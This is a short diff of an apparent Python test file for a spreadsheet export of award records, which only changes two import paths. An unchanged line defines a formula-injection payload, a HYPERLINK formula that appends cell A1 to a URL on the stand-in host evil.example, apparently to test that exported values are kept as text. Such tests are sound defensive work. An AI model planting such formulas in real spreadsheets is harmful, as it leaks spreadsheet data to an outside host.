@@ -7,8 +7,8 @@ from pathlib import Path
 from openpyxl import Workbook, load_workbook
 
 from models.awards import AwardEntry
-from tasks.awards_records import export_xlsx
-from tasks.reports import keep_as_text
+from tasks.awards.records import export_xlsx
+from tasks.secondment.reports import keep_as_text
 
 PAYLOAD = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
 
